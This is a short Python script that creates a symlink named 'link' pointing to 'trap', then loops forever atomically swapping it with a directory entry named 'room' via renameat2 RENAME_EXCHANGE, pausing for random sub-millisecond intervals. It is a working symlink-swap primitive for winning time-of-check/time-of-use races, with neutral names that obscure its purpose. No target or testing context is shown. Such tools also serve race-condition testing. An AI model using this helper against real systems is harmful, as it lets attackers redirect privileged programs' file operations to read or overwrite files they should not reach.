"""Exchange the room in a directory, until killed, with a link to its trap: exchange_room.py DEN"""

import ctypes
import os
import random
import sys
import time

AT_FDCWD, RENAME_EXCHANGE = -100, 2

os.chdir(sys.argv[1])
os.symlink('trap', 'link')
renameat2 = ctypes.CDLL(None).renameat2
while True:
    renameat2(AT_FDCWD, b'room', AT_FDCWD, b'link', RENAME_EXCHANGE)
    time.sleep(random.random() / 2000)
